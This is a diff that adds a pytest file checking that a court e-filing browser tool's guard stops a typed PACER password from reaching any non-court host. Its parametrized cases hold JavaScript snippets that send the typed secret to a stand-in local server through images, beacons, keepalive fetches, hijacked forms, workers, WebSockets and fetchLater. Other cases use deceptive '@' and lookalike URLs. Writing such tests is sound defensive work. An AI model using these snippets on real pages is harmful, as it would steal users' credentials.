@@ -1,0 +1,176 @@
+"""From when a secret is typed, the page sends nothing to another host than the court's."""
+
+import http.server
+import threading
+from collections.abc import Iterator
+from dataclasses import dataclass, field
+from typing import Any
+
+import pytest
+
+from config.account import Account
+from ecfcheck.browser.secret_guard import build_pattern
+from ecfcheck.browser.window import Window
+from ecfcheck.courts.court_session import CourtSession
+
+
+@dataclass
+class OtherHost:
+    """A host that is not the court's, and what it was sent."""
+
+    address: str
+    requests: list[str] = field(default_factory=list)
+
+
+@pytest.fixture
+def other_host() -> Iterator[OtherHost]:
+    class Handler(http.server.BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
+            host.requests.append(f"{self.path} {body.decode()}")
+            self.send_response(200)
+            self.send_header("Content-Length", "0")
+            self.end_headers()
+
+        do_POST = do_GET  # noqa: N815 - http.server looks for this name
+
+        def log_message(self, *_: Any) -> None:
+            """Print nothing."""
+
+    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
+        host = OtherHost(f"http://other.localhost:{server.server_port}")
+        thread = threading.Thread(target=server.serve_forever)
+        thread.start()
+        yield host
+        server.shutdown()
+        thread.join()
+
+
+@pytest.fixture
+def window(window: Window) -> Window:
+    window.open("pacer_login", 10)
+    assert window.wait_for_screen("pacer_login", 10).is_expected
+    return window
+
+
+@pytest.fixture
+def account(court: CourtSession) -> Account:
+    return court.accounts.provide("unlinked_filer")
+
+
+def fill_in(window: Window, account: Account) -> None:
+    typed = {"user_name": account.pacer.user_name, "password": account.pacer.password}
+    assert window.act("pacer_login", "fill_in", typed)
+
+
+def listen(window: Window, script: str) -> None:
+    """Have the page run a script when the password is typed."""
+    window.page.evaluate(
+        "script => document.querySelector('[type=password]')"
+        ".addEventListener('input', event => new Function('secret', script)(event.target.value))",
+        script,
+    )
+
+
+CARRYING = {
+    "an image": "new Image().src = there + '/?p=' + encodeURIComponent(secret)",
+    "a beacon": "navigator.sendBeacon(there, secret)",
+    "a request that outlives the page": "fetch(there, {method: 'POST', body: secret, keepalive: true})",
+    "an encoded image": "new Image().src = there + '/?p=' + btoa('key=' + secret + ';')",
+    "a form in a frame": "document.body.insertAdjacentHTML('beforeend', '<iframe name=away></iframe>');"
+    "const form = document.getElementById('loginForm');"
+    "form.action = there; form.target = 'away'; HTMLFormElement.prototype.submit.call(form)",
+    "the form": "const form = document.getElementById('loginForm');"
+    "form.action = there; HTMLFormElement.prototype.submit.call(form)",
+    "a worker": "new Worker(URL.createObjectURL(new Blob(["
+    "`fetch(${JSON.stringify(there + '/?p=' + encodeURIComponent(secret))}, {mode: 'no-cors'})`])))",
+}
+
+
+@pytest.mark.parametrize("script", CARRYING.values(), ids=CARRYING.keys())
+def test_what_was_typed_does_not_get_to_another_host(
+    script: str, window: Window, account: Account, other_host: OtherHost
+) -> None:
+    listen(window, f"const there = '{other_host.address}'; {script}")
+    with window.page.context.expect_event("requestfailed"):
+        fill_in(window, account)
+    assert window.secret_guard.escapes == [f"what was typed to {other_host.address}"]
+    assert other_host.requests == []
+
+
+@pytest.mark.parametrize("script", ["location = there", "window.open(there)"])
+def test_a_page_with_a_typed_secret_does_not_lead_to_another_host(
+    script: str, window: Window, account: Account, other_host: OtherHost
+) -> None:
+    listen(window, f"const there = '{other_host.address}/'; {script}")
+    with window.page.context.expect_event("requestfailed"):
+        fill_in(window, account)
+    assert window.secret_guard.escapes == [f"the user to {other_host.address}"]
+    assert other_host.requests == []
+
+
+UNSEEN = {
+    "a WebSocket": "new WebSocket(there.replace('http', 'ws') + '/?' + encodeURIComponent(secret))",
+    "a shared worker": "new SharedWorker(URL.createObjectURL(new Blob("
+    "[`fetch(${JSON.stringify(there)}, {mode: 'no-cors'})`])))",
+    "a request for later": "fetchLater(there, {method: 'POST', body: secret, activateAfter: 0})",
+}
+
+
+@pytest.mark.parametrize("script", UNSEEN.values(), ids=UNSEEN.keys())
+def test_ways_that_no_route_sees_do_not_lead_to_another_host(
+    script: str, window: Window, account: Account, other_host: OtherHost
+) -> None:
+    listen(window, f"const there = '{other_host.address}'; try {{ {script} }} finally {{ fetch(there) }}")
+    with window.page.context.expect_event("requestfailed"):
+        fill_in(window, account)
+    window.load(window.court.website, 10)
+    assert other_host.requests == []
+
+
+def test_a_request_that_carries_nothing_is_blocked_and_noted_once(
+    window: Window, account: Account, other_host: OtherHost
+) -> None:
+    listen(window, f"for (const n of [1, 2]) new Image().src = `{other_host.address}/statistics?${{n}}`")
+    with window.page.context.expect_event("requestfailed"):
+        fill_in(window, account)
+    window.load(window.url, 10)
+    assert window.secret_guard.escapes == []
+    assert window.notes == [f"blocked a request to {other_host.address}, since a secret was typed"]
+    assert other_host.requests == []
+
+
+def test_the_next_document_of_the_court_may_send_what_it_likes(
+    window: Window, account: Account, other_host: OtherHost
+) -> None:
+    fill_in(window, account)
+    window.load(window.court.website, 10)
+    with window.page.expect_event("requestfinished", lambda request: "statistics" in request.url):
+        window.page.evaluate("there => { new Image().src = there + '/statistics'; }", other_host.address)
+    assert other_host.requests == ["/statistics "]
+    assert window.notes == []
+
+
+def test_the_court_receives_what_is_typed(window: Window, account: Account) -> None:
+    typed = {"user_name": account.pacer.user_name, "password": account.pacer.password}
+    assert window.act("pacer_login", "log_in", typed)
+    assert window.wait_for_screen("cmecf_home", 10, previous_screen="pacer_login").is_expected
+    assert window.secret_guard.escapes == []
+
+
+@pytest.mark.parametrize(
+    ("address", "is_other"),
+    [
+        ("https://ecf.court/login", False),
+        ("https://ecf.court:8443?x", False),
+        ("http://ecf.court", False),
+        ("https://ecf.court.other/", True),
+        ("https://ecf.court@other/", True),
+        ("https://ecf.court:80@other/", True),
+        ("https://ecfxcourt/", True),
+        ("https://other/?https://ecf.court/", True),
+        ("data:text/plain,x", False),
+    ],
+)
+def test_only_the_courts_own_hosts_count_as_the_courts(address: str, is_other: bool) -> None:
+    assert bool(build_pattern(["ecf.court", "pacer.court"]).match(address)) is is_other
